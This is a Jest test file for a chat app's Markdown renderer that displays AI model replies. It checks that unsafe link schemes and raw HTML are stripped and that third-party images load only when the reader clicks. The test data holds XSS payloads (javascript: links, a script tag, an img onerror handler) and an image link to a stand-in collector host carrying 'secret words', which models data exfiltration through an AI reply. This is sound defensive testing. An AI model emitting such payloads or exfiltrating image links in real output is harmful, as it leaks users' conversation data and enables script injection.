import { describe, expect, it, jest } from '@jest/globals';
import { render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { ThemeProvider } from '@mui/material/styles';
import { appTheme } from '../../app/theme';
import Markdown from './markdown';
import { i18n } from '@lingui/core';
import { I18nProvider } from '@lingui/react';

const renderMarkdown = (text: string) =>
  render(
    <I18nProvider i18n={i18n}>
      <ThemeProvider theme={appTheme()}>
        <Markdown>{text}</Markdown>
      </ThemeProvider>
    </I18nProvider>,
  );

describe('assistant Markdown', () => {
  it('keeps http, https, mailto, irc, xmpp and relative addresses and blanks every other scheme', () => {
    renderMarkdown(
      [
        '[web](https://example.com/a) [plain](http://example.com) [mail](mailto:a@example.com)',
        '[irc](irc://irc.example.com/chan) [xmpp](xmpp:someone@example.com) [rel](/community)',
        '[js](javascript:alert(1)) [data](data:text/html;base64,PHNjcmlwdD4=) [vb](vbscript:msgbox)',
        '![pic](javascript:alert(2))',
      ].join('\n\n'),
    );
    expect(screen.getByRole('link', { name: 'web' })).toHaveAttribute(
      'href',
      'https://example.com/a',
    );
    expect(screen.getByRole('link', { name: 'plain' })).toHaveAttribute(
      'href',
      'http://example.com',
    );
    expect(screen.getByRole('link', { name: 'mail' })).toHaveAttribute(
      'href',
      'mailto:a@example.com',
    );
    expect(screen.getByRole('link', { name: 'irc' })).toHaveAttribute(
      'href',
      'irc://irc.example.com/chan',
    );
    expect(screen.getByRole('link', { name: 'xmpp' })).toHaveAttribute(
      'href',
      'xmpp:someone@example.com',
    );
    expect(screen.getByRole('link', { name: 'rel' })).toHaveAttribute('href', '/community');
    for (const name of ['js', 'data', 'vb']) {
      expect(screen.queryByRole('link', { name })).not.toBeInTheDocument();
      expect(screen.getByText(name).closest('a')).toBeNull();
    }
    expect(document.querySelector('img')).toBeNull();
    expect(document.body.innerHTML).not.toMatch(/javascript:|vbscript:|data:text/);
  });

  it('loads an image from another host only when the reader asks, and that one only', async () => {
    const user = userEvent.setup();
    renderMarkdown(
      [
        'Look: ![a chart of the chat](https://collector.example/p.png?d=secret%20words)',
        '![](https://other.example/q.png)',
        '![our logo](/favicon.svg) ![api image](http://localhost/api/images/1.svg)',
      ].join('\n\n'),
    );
    // the service's own images load as they are
    expect(screen.getByRole('img', { name: 'our logo' })).toHaveAttribute('src', '/favicon.svg');
    expect(screen.getByRole('img', { name: 'api image' })).toBeInTheDocument();
    expect(document.querySelectorAll('img')).toHaveLength(2);
    // the others are placeholders: what they show, where from, and the button
    const buttons = screen.getAllByRole('button', { name: 'Load image' });
    expect(buttons).toHaveLength(2);
    expect(buttons[0]).toHaveAccessibleDescription(
      'a chart of the chat not loaded, from collector.example',
    );
    expect(buttons[1]).toHaveAccessibleDescription('An image not loaded, from other.example');

    await user.click(buttons[0] as HTMLElement);
    const loaded = screen.getByRole('img', { name: 'a chart of the chat' });
    // the address exactly as written
    expect(loaded).toHaveAttribute('src', 'https://collector.example/p.png?d=secret%20words');
    expect(document.querySelectorAll('img')).toHaveLength(3);
    expect(screen.getAllByRole('button', { name: 'Load image' })).toHaveLength(1);
    await waitFor(() => expect(loaded.parentElement).toHaveFocus());
  });

  it('loads an image inside a link without following the link', async () => {
    const user = userEvent.setup();
    renderMarkdown('[![a map](https://elsewhere.example/a.png)](https://elsewhere.example/b)');
    // a link is followed when its click, bubbled all the way up, was not cancelled on the way
    const followed: boolean[] = [];
    const record = (event: Event) => followed.push(!event.defaultPrevented);
    window.addEventListener('click', record);
    await user.click(screen.getByRole('button', { name: 'Load image' }));
    window.removeEventListener('click', record);
    expect(followed).toEqual([false]);
    expect(screen.getByRole('img', { name: 'a map' })).toBeInTheDocument();
  });

  it('shows a reply past the budget as its plain text, with a word on why', () => {
    const reply = `${'- '.repeat(10_000)}the end`;
    const { container } = renderMarkdown(reply);
    expect(document.querySelector('ul')).toBeNull();
    const pieces = Array.from(
      container.querySelectorAll('.markdown > div'),
      (div) => div.textContent,
    );
    expect(pieces.join('')).toBe(reply);
    expect(
      screen.getByText(
        'This reply is too long or too deeply nested to format, so it is shown as plain text.',
      ),
    ).toBeInTheDocument();
  });

  it('shows a long reply past the budget whole, in pieces laid out only near the view', () => {
    const lines = Array.from({ length: 3_000 }, (_, i) => `| row ${i} | ${'x'.repeat(i % 90)} |`);
    const reply = lines.join('\n');
    const { container } = renderMarkdown(reply);
    const pieces = Array.from(container.querySelectorAll<HTMLElement>('.markdown > div'));
    expect(pieces.length).toBeGreaterThan(20);
    // cut at line ends only: the pieces, one line break between each, are the reply
    expect(pieces.map((piece) => piece.textContent).join('\n')).toBe(reply);
    for (const piece of pieces) expect(piece).toHaveStyle({ contentVisibility: 'auto' });
  });

  it('opens links in a new tab without handing over the opener', () => {
    renderMarkdown('[docs](https://example.com)');
    const link = screen.getByRole('link', { name: 'docs' });
    expect(link).toHaveAttribute('target', '_blank');
    expect(link).toHaveAttribute('rel', 'noopener noreferrer');
  });

  it('never renders raw HTML from a reply', () => {
    renderMarkdown(
      'Hello <script>window.hacked = true</script><img src=x onerror="window.hacked = true"> <b>bold</b>',
    );
    expect(document.querySelector('script')).toBeNull();
    expect(document.querySelector('img')).toBeNull();
    expect(document.querySelector('b')).toBeNull();
    expect((window as unknown as { hacked?: boolean }).hacked).toBeUndefined();
  });

  it('renders GFM tables and code blocks with a language label and a working copy button', async () => {
    const writeText = jest.fn((_text: string) => Promise.resolve());
    Object.defineProperty(window, 'isSecureContext', { value: true, configurable: true });
    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
    renderMarkdown('| A | B |\n| --- | --- |\n| 1 | 2 |\n\n```python\nprint("hi")\n```');
    expect(screen.getByRole('table')).toBeInTheDocument();
    expect(screen.getByRole('columnheader', { name: 'A' })).toBeInTheDocument();
    expect(screen.getByText('Python')).toBeInTheDocument();
    await userEvent.click(screen.getByRole('button', { name: 'Copy Python code' }));
    expect(writeText).toHaveBeenCalledWith('print("hi")');
    expect(await screen.findByRole('button', { name: 'Copied' })).toBeInTheDocument();
    // highlighted once its lazy chunk arrives: Prism wraps tokens in spans
    await waitFor(() =>
      expect(document.querySelector('pre span.token, pre code span')).not.toBeNull(),
    );
  });

  it('reads the rest of GFM: strikethrough, task lists, bare links and footnotes', () => {
    renderMarkdown(
      '~~gone~~ kept\n\n- [x] done\n- [ ] open\n\nSee www.example.com today.[^1]\n\n[^1]: A note.',
    );
    expect(screen.getByText('gone').tagName).toBe('DEL');
    const boxes = screen.getAllByRole('checkbox');
    expect(boxes.map((box) => (box as HTMLInputElement).checked)).toEqual([true, false]);
    expect(screen.getByRole('link', { name: 'www.example.com' })).toHaveAttribute(
      'href',
      'http://www.example.com',
    );
    expect(screen.getByText('A note.', { exact: false })).toBeInTheDocument();
  });

  it('copies outside secure contexts through the legacy path', async () => {
    Object.defineProperty(window, 'isSecureContext', { value: false, configurable: true });
    const execCommand = jest.fn((_command: string) => true);
    Object.defineProperty(document, 'execCommand', { value: execCommand, configurable: true });
    renderMarkdown('```\nplain text\n```');
    expect(screen.getByText('Code')).toBeInTheDocument();
    await userEvent.click(screen.getByRole('button', { name: 'Copy Code code' }));
    expect(execCommand).toHaveBeenCalledWith('copy');
    expect(await screen.findByRole('button', { name: 'Copied' })).toBeInTheDocument();
  });
});
